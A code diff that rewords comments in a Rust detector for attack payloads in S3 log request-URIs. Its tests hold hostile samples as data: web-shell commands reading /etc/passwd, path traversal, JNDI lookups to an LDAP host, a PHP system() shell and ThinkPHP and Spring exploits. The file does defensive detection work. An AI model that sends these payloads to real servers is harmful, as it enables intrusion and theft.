@@ -1,48 +1,48 @@
-//! Attacks in a request-URI: climbing out of the root, JNDI, SQL, scripts, templates, wrappers, metadata of clouds.
+//! Attack payloads in request-URIs: path traversal, JNDI, SQL, scripts, templates, wrappers, cloud metadata.
 //!
-//! Nearly every URI is ordinary, so a scan of its bytes comes first: without a byte or an escape that an attack needs it
-//! is none. Only then it is decoded and given to the patterns of `lists/payloads.regex`. Bytes are all that is looked at;
-//! a URI need not be text.
+//! Nearly all URIs are ordinary, so a scan of the bytes comes first: without a byte or escape that attacks need, there
+//! is no payload. Only otherwise is the URI decoded and matched against the patterns of `lists/payloads.regex`. All
+//! matching works on bytes, since a URI need not be text.
 //!
-//! `..` alone is no attack: clients that do not normalise ask for `a/../b`. It counts if it leaves the root, or if it
-//! stands before a file that somebody wants to read.
+//! `..` alone is not an attack: clients that do not normalise paths request `a/../b`. It counts if it leaves the root,
+//! or if it precedes a file that attackers look for.
 
 use super::lists::{ListError, alternation, entries, syntax};
 use regex::bytes::{RegexSet, RegexSetBuilder};
 use s3log_parser::value::key::decode_into;
 
-/// A URI is decoded at most so often.
+/// Maximum number of decoding rounds.
 const MOST_ROUNDS: usize = 3;
 
-/// What a request-URI carries.
+/// The kind of payload in a request-URI.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
 pub(crate) enum Payload {
-    /// A path that leaves its root.
+    /// A path that leaves the root.
     Traversal,
-    /// A look-up by a logger.
+    /// A JNDI lookup, evaluated by loggers.
     Jndi,
-    /// A piece of SQL.
+    /// An SQL fragment.
     Sql,
-    /// A script for a browser.
+    /// A script for browsers.
     Xss,
-    /// An expression for a template engine.
+    /// A template expression.
     Template,
-    /// A URL that a program would open: `php://input`, `gopher://`.
+    /// A URL for a program to open: `php://input`, `gopher://`.
     Wrapper,
-    /// The metadata service of a cloud.
+    /// The metadata service of a cloud provider.
     Metadata,
     /// A NUL byte.
     NullByte,
-    /// A header line behind a line end.
+    /// A line break followed by a header.
     Crlf,
-    /// A command for a shell.
+    /// A shell command.
     Command,
-    /// Code for an interpreter, or a serialised object.
+    /// Code for an interpreter, or a serialized object.
     Code,
 }
 
 impl Payload {
-    /// Those that a list has sections for, the most telling first.
+    /// Kinds with a section in the list, most significant first.
     const LISTED: [Self; 10] = [
         Self::Jndi,
         Self::Metadata,
@@ -56,7 +56,7 @@ impl Payload {
         Self::Traversal,
     ];
 
-    /// Its name in tables and in the list.
+    /// The name in tables and in the list.
     pub(crate) fn name(self) -> &'static str {
         match self {
             Self::Traversal => "traversal",
@@ -84,10 +84,10 @@ pub(crate) struct PayloadPatterns {
 }
 
 impl PayloadPatterns {
-    /// The list's name.
+    /// The name of the list.
     pub(crate) const NAME: &'static str = "payloads";
 
-    /// Reads a list of sections, `[sql]`, with patterns.
+    /// Parses a list with sections such as `[sql]`.
     pub(crate) fn parse(text: &str) -> Result<Self, ListError> {
         let mut sections: Vec<(Payload, Vec<(usize, &str)>)> = Payload::LISTED.map(|kind| (kind, Vec::new())).to_vec();
         let mut current = None;
@@ -119,12 +119,12 @@ impl PayloadPatterns {
         Ok(Self { set, kinds: sections.into_iter().map(|(kind, _)| kind).collect(), len })
     }
 
-    /// How many patterns there are.
+    /// Number of patterns.
     pub(crate) fn len(&self) -> usize {
         self.len
     }
 
-    /// What a path with its query carries, as the log has it: not decoded.
+    /// Finds the payload in a path with query, which must be as logged: not decoded.
     pub(crate) fn find(&self, uri: &[u8]) -> Option<Payload> {
         if !may_be_one(uri) {
             return None;
@@ -157,8 +157,8 @@ impl PayloadPatterns {
         None
     }
 
-    /// Whether a header holds what a logger would look up, or what a shell would run: who sends that cares for no answer. Nothing else is looked
-    /// for, as texts of everyday may stand there.
+    /// Whether a header contains a JNDI lookup or a shell command, which attack whatever processes the log, regardless
+    /// of the response. Other kinds are not checked, since headers may contain arbitrary text.
     pub(crate) fn is_in_header(&self, text: &[u8]) -> bool {
         let has = |beginning: &[u8]| memchr::memmem::find(text, beginning).is_some();
         if memchr::memchr(b'{', text).is_none() || !has(b"${") && !has(b"()") {
@@ -168,9 +168,9 @@ impl PayloadPatterns {
         kinds.into_iter().any(|kind| matches!(kind, Payload::Jndi | Payload::Command))
     }
 
-    /// What a decoded URI carries. `hidden`: something in it was encoded.
+    /// Finds the payload in a decoded URI. `hidden`: part of it was encoded.
     fn of_decoded(&self, decoded: &[u8], path: usize, hidden: bool) -> Option<Payload> {
-        // Which it is takes longer than whether it is one.
+        // Finding which pattern matches is slower than whether one does.
         if self.set.is_match(decoded) {
             let found = self.set.matches(decoded).iter().next();
             return found.and_then(|index| self.kinds.get(index)).copied();
@@ -182,18 +182,18 @@ impl PayloadPatterns {
     }
 }
 
-/// The name of a section: `[sql]`.
+/// Parses a section header such as `[sql]`.
 pub(super) fn section(line: &str) -> Option<&str> {
     line.strip_prefix('[')?.strip_suffix(']').filter(|name| {
-        // `[a-z]` alone is a pattern, though a poor one.
+        // `[a-z]` alone is a valid pattern, although a poor one.
         !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'_')
     })
 }
 
-/// Whether a path leaves its root: more `..` than parts before them. One that stands in the clear and leads to a picture or
-/// a page, one step too high, is a bad link.
+/// Whether a path leaves its root: it has more `..` than parts before them. An unencoded path that climbs one step too
+/// far to an image or a page is just a broken link.
 fn climbs_out(path: &[u8], hidden: bool) -> bool {
-    // Nearly every path ends here, and a searcher for two bytes takes longer to make than to run.
+    // Nearly all paths end here. Constructing a two-byte searcher would cost more than this search.
     if !memchr::memchr_iter(b'.', path).any(|at| path.get(at + 1) == Some(&b'.')) {
         return false;
     }
@@ -211,7 +211,7 @@ fn climbs_out(path: &[u8], hidden: bool) -> bool {
     lowest < 0 && !bad_link
 }
 
-/// Whether a path ends as pages and their parts do.
+/// Whether a path ends like a page or its assets.
 fn leads_to_page(path: &[u8]) -> bool {
     const ENDINGS: [&[u8]; 14] = [
         b"/", b".html", b".htm", b".css", b".js", b".png", b".jpg", b".jpeg", b".gif", b".svg", b".webp", b".ico",
@@ -222,11 +222,11 @@ fn leads_to_page(path: &[u8]) -> bool {
         .any(|ending| path.len() >= ending.len() && path[path.len() - ending.len()..].eq_ignore_ascii_case(ending))
 }
 
-/// What a byte may be the beginning of.
+/// What a byte may begin.
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Class {
     Plain,
-    /// No key or query of everyday holds it, and attacks do.
+    /// Not in ordinary keys and queries, but in attacks.
     Suspicious,
     Dot,
     Colon,
@@ -234,7 +234,7 @@ enum Class {
     Percent,
     Equals,
     Question,
-    /// A space of a query, as forms write it.
+    /// A space in a form-encoded query.
     Plus,
 }
 
@@ -256,7 +256,7 @@ const CLASSES: [Class; 256] = {
     classes
 };
 
-/// Whether a URI has what every payload has. Cheap, and "yes" of some that carry none.
+/// Whether a URI has what every payload needs. Cheap, with false positives.
 fn may_be_one(uri: &[u8]) -> bool {
     let mut in_query = false;
     for (index, byte) in uri.iter().enumerate() {
@@ -276,7 +276,7 @@ fn may_be_one(uri: &[u8]) -> bool {
     false
 }
 
-/// What is tried first where a shell may listen.
+/// Common first commands of someone probing for a shell.
 const COMMANDS: [&[u8]; 12] = [
     b"id",
     b"whoami",
@@ -292,8 +292,8 @@ const COMMANDS: [&[u8]; 12] = [
     b"phpinfo",
 ];
 
-/// Whether a value of a query, from its `=` on, is a payload made of words alone: an address, a serialised object, a command, ThinkPHP's
-/// `s=`.
+/// Whether a query value, from its `=` on, is a payload of plain words: an address, a serialized object, a command, or
+/// the `s=` of ThinkPHP.
 fn is_telling_value(query: &[u8], equals: usize) -> bool {
     let value = &query[equals + 1..];
     let starts = |word: &[u8]| value.get(..word.len()).is_some_and(|start| start.eq_ignore_ascii_case(word));
@@ -307,8 +307,8 @@ fn is_telling_value(query: &[u8], equals: usize) -> bool {
     }
 }
 
-/// Whether an escape, without its `%`, is one that hides something. Slashes, spaces of paths, `=`, `:` and letters of other
-/// alphabets are what everybody encodes.
+/// Whether an escape, without its `%`, may hide something. Slashes, spaces in paths, `=`, `:` and non-ASCII letters are
+/// encoded routinely.
 fn is_telling(escape: &[u8], in_query: bool) -> bool {
     let [high, low, ..] = escape else { return false };
     match (high, low.to_ascii_lowercase()) {
@@ -326,7 +326,7 @@ fn is_telling(escape: &[u8], in_query: bool) -> bool {
         (b'5', b'c') | (b'6', b'0') => true,
         // `{`, `|`, `}`
         (b'7', b'b' | b'c' | b'd') => true,
-        // An overlong form of a dot or a slash; `%u002e`.
+        // An overlong encoding of a dot or slash; `%u002e`.
         (b'c' | b'C', b'0') | (b'u', _) => true,
         _ => false,
     }
@@ -358,7 +358,7 @@ mod tests {
         let patterns = PayloadPatterns::parse(include_str!("lists/payloads.regex")).unwrap();
         let mut wrong = Vec::new();
         for (uri, expected) in [
-            // Shells that may have been uploaded.
+            // Web shells that may have been uploaded.
             ("/up/tunnel.jsp?pass=1&cmd=cat%20/etc/passwd", "command"),
             ("/a.asp?c=whoami", "command"),
             ("/test.php%253B.jpg?cmd=id", "command"),
@@ -367,7 +367,7 @@ mod tests {
             ("/list?sort=id&dir=asc&c=id", ""),
             ("/list.php?c=idea", ""),
             ("/docs?page=/etc/apt/sources.list", ""),
-            // Climbing.
+            // Path traversal.
             ("/../../../etc/passwd", "traversal"),
             ("/bucket/../../etc/passwd", "traversal"),
             ("/a/..%2f..%2f..%2fetc%2fpasswd", "traversal"),
@@ -385,7 +385,7 @@ mod tests {
             ("/../images/logo.png", ""),
             ("/a..b/c...d/..e", ""),
             ("/backup/2024..2025.zip", ""),
-            // Look-ups.
+            // JNDI lookups.
             ("/${jndi:ldap://203.0.113.9/a}", "jndi"),
             ("/?x=$%7Bjndi:ldap://203.0.113.9/a%7D", "jndi"),
             ("/?x=${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}", "jndi"),
@@ -454,7 +454,7 @@ mod tests {
             ("/?s=index/think%5Capp/invokefunction", "code"),
             ("/?class.module.classLoader.resources=%20", "code"),
             ("/?x=<?php+system($_GET[1]);?>", "code"),
-            // The everyday life of a bucket.
+            // Ordinary requests.
             ("/bucket/photos/2024/03/part-00012.parquet?x-id=GetObject", ""),
             (
                 "/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIDEXAMPLE%2F20260131%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20260131T000000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host%3Bx-amz-date&X-Amz-Signature=00ff",
